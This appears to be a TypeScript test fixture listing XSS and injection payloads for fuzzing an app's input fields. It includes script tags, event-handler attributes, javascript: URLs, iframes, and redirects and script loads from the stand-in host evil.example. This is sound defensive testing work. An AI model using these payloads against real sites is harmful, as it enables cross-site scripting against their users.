/** The script of every payload: it marks the root element for good. */
const RUN = 'document.documentElement.dataset.ran=1';

/** A foreign origin that must receive no request. */
const EVIL = 'https://evil.example';

/** Hostile texts by kind of attack. */
export const payloads: { readonly [what: string]: string } = {
  'a script': `<script>${RUN}</script><script src="${EVIL}/a.js"></script>`,
  'a picture that fails': `<img src=x onerror="${RUN}"><img src="${EVIL}/p.png">`,
  'a drawing with a handler': `<svg onload=${RUN}><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  'a link with a script': `<a href="javascript:${RUN}" style="position:fixed;inset:0">tap</a>`,
  'a frame with a document': `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe><object data="${EVIL}"></object>`,
  'styles, a base and a way out': `<style>*{display:none}</style><base href="${EVIL}/"><meta http-equiv=refresh content="0;url=${EVIL}">`,
  'ends of elements': '</script></style></title></textarea></template></div></body>-->',
  'ends of attributes': `"'\`> autofocus onfocus=${RUN} x="' onclick='${RUN}`,
  'comments and CDATA': `<!--<![CDATA[<script>${RUN}</script>]]><![endif]-->`,
  'formulas of templates': `{{constructor.constructor('${RUN}')()}} \${${RUN}} #{${RUN}} <%= ${RUN} %> {0} {at} {count} {name}`,
  entities: `&lt;script&gt;${RUN}&lt;/script&gt; &#x3c;img src=x onerror=${RUN}&#x3e; &amp;`,
  'an address that runs': `javascript:${RUN}//${EVIL}/%0a${RUN}`,
  'names of prototypes': '__proto__ constructor.prototype toString [object Object]',
  'marks of direction': 'a\u202eevil\u202c \u2066x\u2069 \u200f\u061c b',
  'control characters': 'a\0b\u0001c\u0008d\u001b[31me\u007ff\u0085g\u2028h',
  'a very long word': 'W'.repeat(5000),
};

const names = Object.keys(payloads);

/** The number of rounds after which each field has had every payload. */
export const ROUNDS = 4;

const EACH = names.length / ROUNDS;

/**
 * The payloads of a field in a round, several in one text. Each field begins with another, for what a screen cuts off is
 * never tried.
 */
export const payloadsOf = (field: number, round: number): readonly string[] =>
  Array.from({ length: EACH }, (_, at) => names[(field * 3 + round * EACH + at) % names.length] ?? '');
